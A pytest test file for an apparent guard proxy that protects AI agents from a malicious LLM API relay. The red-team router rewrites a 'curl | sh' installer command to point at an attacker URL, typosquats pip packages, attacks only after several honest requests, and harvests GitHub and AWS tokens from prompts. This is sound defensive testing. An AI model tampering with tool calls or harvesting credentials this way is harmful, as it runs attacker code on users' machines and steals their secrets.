"""The red-team router's attacks, end to end.

Without the guard (client -> redteam -> mock) every attack must reach the
client: this proves the attacks are real.  With the guard in front
(client -> guard -> redteam -> mock), AC-1 must be blocked: the tool call is
gone, the agent reads why, and the response is still valid in its dialect.
"""

from __future__ import annotations

import difflib
import re

import orjson
import pytest

from relayguard.testing.client import PATHS, agent_request, headers_for, post_json

DIALECTS = ("openai-chat", "openai-responses", "anthropic-messages")
STREAMS = pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
EACH_DIALECT = pytest.mark.parametrize("dialect", DIALECTS)

RUSTUP = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y"


def _ask(url: str, dialect: str, prompt: str, stream: bool, headers: dict[str, str] | None = None):
    return post_json(url, PATHS[dialect], agent_request(dialect, prompt, stream=stream),
                     {**headers_for(dialect), **(headers or {})})


# --- each attack reaches the client without the guard ------------------------


@STREAMS
@EACH_DIALECT
def test_ac1_swaps_the_installer_url(redteam, wire, dialect, stream):
    router = redteam("--attack", "ac1")
    seen = wire.parse(dialect, _ask(router.url, dialect, "install rust", stream), stream)
    assert len(seen.calls) == 1
    (command,) = seen.commands
    assert wire.ATTACKER_URL in command
    assert "sh.rustup.rs" not in command
    assert command == RUSTUP.replace("https://sh.rustup.rs", wire.ATTACKER_URL)


@STREAMS
@EACH_DIALECT
def test_ac1a_typosquats_the_package(redteam, wire, dialect, stream):
    router = redteam("--attack", "ac1a")
    seen = wire.parse(dialect, _ask(router.url, dialect, "please install requests", stream), stream)
    (command,) = seen.commands
    match = re.fullmatch(r"pip install (\S+)", command)
    assert match, command
    package = match.group(1)
    assert package != "requests"
    assert difflib.SequenceMatcher(None, package, "requests").ratio() >= 0.75, package


@EACH_DIALECT
def test_ac1b_strikes_only_after_n_requests(fresh_server, mock, wire, dialect):
    router = fresh_server("redteam", "--upstream", mock.url, "--attack", "ac1b", "--after", "2")
    commands = []
    for stream in (False, True, False, True):
        seen = wire.parse(dialect, _ask(router.url, dialect, "install rust", stream), stream)
        (command,) = seen.commands
        commands.append(command)
    assert commands[:2] == [RUSTUP, RUSTUP], "the first 2 requests must be relayed honestly"
    for command in commands[2:]:
        assert wire.ATTACKER_URL in command and "sh.rustup.rs" not in command, command


@pytest.fixture(scope="module")
def harvesting(tmp_path_factory, redteam):
    log = tmp_path_factory.mktemp("ac2") / "harvest.jsonl"
    return redteam("--attack", "ac2", "--harvest-log", str(log)), log


@STREAMS
@EACH_DIALECT
def test_ac2_harvests_credentials_from_requests(harvesting, mock, wire, dialect, stream):
    router, log = harvesting
    tag = f"{DIALECTS.index(dialect)}{int(stream)}"
    # FAKE credentials, assembled here so no scanner mistakes this file for a leak.
    github = "ghp_" + "FAKE" + tag + "A" * 30
    aws = "AKIA" + "FAKE" + tag + "Q" * 10
    prompt = (f"MOCK_TEXT: noted\nFAKE test credentials, not live: my token is {github} "
              f"and AWS_ACCESS_KEY_ID={aws}")
    reply = _ask(router.url, dialect, prompt, stream)
    direct = _ask(mock.url, dialect, prompt, stream)
    # passive: the client gets exactly what the provider sent
    if stream:
        assert wire.stream_payloads(reply) == wire.stream_payloads(direct)
    else:
        assert wire.strip_timestamps(reply.json()) == wire.strip_timestamps(direct.json())
    assert wire.parse(dialect, reply, stream).text == "noted"

    harvested = [orjson.loads(line) for line in log.read_bytes().splitlines() if line.strip()]
    for entry in harvested:  # one credential per JSON line, not whole requests
        assert isinstance(entry.get("kind"), str) and isinstance(entry.get("value"), str), entry
        assert len(entry["value"]) < 200, entry
    values = {entry["value"]: entry["kind"] for entry in harvested}
    assert values.get(github) == "github_token", harvested
    assert values.get(aws) == "aws_access_key_id", harvested


# --- with the guard ------------------------------------------------------------


@pytest.fixture(scope="module")
def guarded_ac1(redteam, guard_for):
    return guard_for(redteam("--attack", "ac1").url)


@STREAMS
@EACH_DIALECT
def test_guard_blocks_ac1(guarded_ac1, wire, dialect, stream):
    reply = _ask(guarded_ac1.url, dialect, "install rust", stream)
    seen = wire.parse(dialect, reply, stream)
    assert seen.calls == [], "the attacked tool call reached the agent"
    notes = seen.blocked_notes()
    assert len(notes) == 1, seen.text
    assert wire.ATTACKER_HOST in notes[0], notes[0]
    assert seen.finish == wire.STOP[dialect]
    if stream:
        carriers = [e.raw[:300] for e in reply.events() if wire.ATTACKER_URL in e.data]
        assert not carriers, f"the attacker URL reached the client in {len(carriers)} event(s): {carriers}"
        assert seen.last_event == wire.TERMINAL[dialect]
    else:
        assert reply.headers.get("x-relayguard-verdict") == "block"
        body = reply.json()
        # the rest of the response is intact and valid in its dialect
        if dialect == "openai-chat":
            assert body["object"] == "chat.completion" and body["usage"]["total_tokens"] > 0
            assert "tool_calls" not in body["choices"][0]["message"]
        elif dialect == "anthropic-messages":
            assert body["type"] == "message" and body["role"] == "assistant"
            assert all(b["type"] == "text" for b in body["content"])
        else:
            assert body["object"] == "response"
            assert all(item["type"] == "message" for item in body["output"])


@STREAMS
@EACH_DIALECT
def test_guard_lets_the_honest_installer_through(redteam, guard_for, wire, dialect, stream):
    guard = guard_for(redteam("--attack", "none").url)
    reply = _ask(guard.url, dialect, "install rust", stream)
    seen = wire.parse(dialect, reply, stream)
    assert seen.commands == [RUSTUP]
    assert seen.blocked_notes() == []
    if not stream:
        assert reply.headers.get("x-relayguard-verdict") == "allow"
    else:
        assert seen.last_event == wire.TERMINAL[dialect]
